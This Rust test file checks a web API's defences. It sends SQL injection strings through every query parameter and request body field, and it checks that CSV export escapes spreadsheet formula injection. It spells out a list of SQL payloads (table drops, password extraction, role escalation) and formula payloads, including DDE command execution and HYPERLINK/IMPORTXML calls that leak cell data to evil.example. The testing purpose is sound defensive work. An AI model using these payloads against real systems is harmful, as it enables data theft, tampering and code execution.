//! What attackers type: SQL in every parameter and every member, formulas in what becomes a cell.

use std::time::{Duration, Instant};

use maillage::access::Role;
use maillage::api::openapi::document;
use serde_json::{Value, json};
use ureq::Body;
use ureq::http::Response;

use crate::harness::people::{House, PASSWORD};
use crate::harness::{TestServer, header, town};
use crate::identity::encoded;

/// How many strings go through each parameter; every one does with `MAILLAGE_EVERY_PAYLOAD`.
const EACH: usize = 6;

/// Two hundred strings: ways to leave a literal, what to do outside, ways to hide the rest.
fn injections() -> Vec<String> {
    let leave = ["'", "\"", "`", "')", "'))", "1", "1)", "\\'", "%27", "\u{2019}"];
    let act = [
        " OR 1=1",
        " OR 'a'='a",
        "; DROP TABLE account",
        " UNION SELECT login, password, 1, 1 FROM account",
        "; UPDATE account SET role='administrator'",
        " AND (SELECT count(*) FROM sqlite_master) > 0",
        " AND 1=(SELECT 1 FROM pg_sleep(5))",
        " AND randomblob(500000000) IS NOT NULL",
        "||(SELECT hash FROM session)||",
        "; ATTACH DATABASE '/tmp/x' AS x",
    ];
    let hide = ["--", "/*"];
    let mut all = Vec::new();
    for leave in leave {
        for act in act {
            all.extend(hide.map(|hide| format!("{leave}{act}{hide}")));
        }
    }
    all
}

/// Refused or answered, soon, and nothing of a database in it.
fn assert_harmless(mut response: Response<Body>, took: Duration, what: &str) -> String {
    let body = response.body_mut().with_config().limit(64 << 20).lossy_utf8(true).read_to_string().unwrap();
    assert!(response.status() != 500, "{what}: {body}");
    assert!(took < Duration::from_secs(4), "{what}: {took:?}");
    let low = body.to_lowercase();
    for word in ["sqlite", "sqlx", "syntax error", "near \"", "pg_", "argon2"] {
        let echoed = what.to_lowercase().contains(word);
        assert!(echoed || !low.contains(word), "{what}: {word} in {body}");
    }
    body
}

#[test]
fn sql_in_any_parameter_of_any_address_is_words_and_nothing_else() {
    let (server, document, injections) = (TestServer::of_town(), document().unwrap(), injections());
    assert_eq!(injections.len(), 200);
    let every = std::env::var_os("MAILLAGE_EVERY_PAYLOAD").is_some();
    let (mut sent, mut next) = (0, 0);
    for (path, operations) in document["paths"].as_object().unwrap() {
        let Some(operation) = operations.get("get") else { continue };
        for parameter in operation["parameters"].as_array().map_or(&[][..], Vec::as_slice) {
            let name = parameter["name"].as_str().unwrap();
            let count = if every { injections.len() } else { EACH };
            for _ in 0..count {
                let words = &injections[next % injections.len()];
                let injection = encoded(words);
                next += 7;
                let address = if parameter["in"] == "path" {
                    crate::description::example(&path.replace(&format!("{{{name}}}"), &injection), operation, "0")
                } else {
                    let whole = crate::description::example(path, operation, "0");
                    let (bare, query) = whole.split_once('?').unwrap_or((&whole, ""));
                    let others: Vec<_> =
                        query.split('&').filter(|pair| !pair.is_empty() && !pair.starts_with(&format!("{name}="))).collect();
                    let all: Vec<_> = others.into_iter().map(str::to_owned).chain([format!("{name}={injection}")]).collect();
                    format!("{bare}?{}", all.join("&"))
                };
                let start = Instant::now();
                let response = server.get(&address);
                assert_harmless(response, start.elapsed(), &format!("{address} {words}"));
                sent += 1;
            }
        }
    }
    assert!(sent >= 200, "{sent}");
    println!("{sent} requests with SQL in a parameter, none of them a hit");
}

#[test]
fn sql_in_any_member_of_a_body_is_words_and_nothing_else() {
    let house = House::with(|settings| maillage::api::Settings {
        limits: maillage::api::auth::Limits { writes_per_minute: 100_000, ..maillage::api::auth::Limits::default() },
        ..settings
    });
    house.add("root-admin", Role::Administrator, "");
    let admin = house.sign_in("root-admin");
    let mut made = 1;
    for injection in injections() {
        for body in [
            json!({"login": injection, "role": "outreach", "territory": "34"}),
            json!({"login": "camille", "role": injection, "territory": "34"}),
            json!({"login": "camille", "role": "outreach", "territory": injection}),
            json!({"login": "camille", "role": "outreach", "territory": "34", "team": injection}),
            json!({"login": "camille", "role": "outreach", "territory": "34", injection.clone(): 1}),
        ] {
            let start = Instant::now();
            let response = admin.post("/accounts", &body);
            made += usize::from(response.status() == 201);
            assert_harmless(response, start.elapsed(), &body.to_string());
        }
        let start = Instant::now();
        // A label is free words: they come back as they were given.
        let kept = assert_harmless(admin.post("/keys", &json!({"label": injection})), start.elapsed(), &injection);
        assert_eq!(serde_json::from_str::<Value>(&kept).unwrap()["label"], injection);
        let refused = house.try_login(&injection, &injection);
        assert!(matches!(refused.status().as_u16(), 401 | 429), "{injection}");
    }
    let accounts = admin.json("/accounts");
    assert_eq!(accounts.as_array().unwrap().len(), made, "{accounts}");
    assert!(accounts.as_array().unwrap().iter().filter(|account| account["role"] == "administrator").count() == 1);
    assert_eq!(admin.json("/keys").as_array().unwrap().len(), 200);
    house.pass(3_600);
    assert_eq!(house.try_login("root-admin", PASSWORD).status(), 201);
}

const FORMULAS: [&str; 30] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?leak=\"&A1)",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=1+1\";=2+2",
    "=\"a\"&\"b\"",
    "= 1+1",
    "=-1",
    "=@SUM(A1)",
    "=A1,=B1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+HYPERLINK(\"http://evil.example\")",
    "+33 4 67 00 00 00",
    "+SUM(A1:A9)",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "-HYPERLINK(\"http://evil.example\")",
    "-2+3+cmd|' /C calc'!D2",
    "-SUM(A1:A9)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@HYPERLINK(\"http://evil.example\")",
    "\t=1+1",
    "\t+1",
    "\r=1+1",
    "\n=1+1",
    "\n@A1",
];

#[test]
fn formulas_in_what_becomes_a_cell_are_words() {
    let server = TestServer::empty(maillage::api::Settings::default());
    let mut services = town::services();
    let pattern = services.services[0].clone();
    services.services = FORMULAS
        .iter()
        .enumerate()
        .map(|(index, formula)| maillage::domain::Service {
            id: maillage::domain::ServiceId::new("formules", &index.to_string()),
            name: (*formula).to_owned(),
            category: (*formula).to_owned(),
            address: Some((*formula).to_owned()),
            ..pattern.clone()
        })
        .collect();
    server.load(vec![town::outlines(), services]);
    let mut seen = 0;
    for address in ["/collections/services/items?f=csv", "/collections/services/items?f=csv&bom=1"] {
        let response = server.get(address);
        assert!(header(&response, "content-type").starts_with("text/csv"));
        let text = server.text(address);
        let mut rows = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        for row in rows.records() {
            for cell in &row.unwrap() {
                let number = cell.parse::<f64>().is_ok();
                assert!(number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{cell:?}");
                seen += usize::from(cell.starts_with('\''));
            }
        }
    }
    assert!(seen >= 2 * 3 * 28, "{seen}");
}
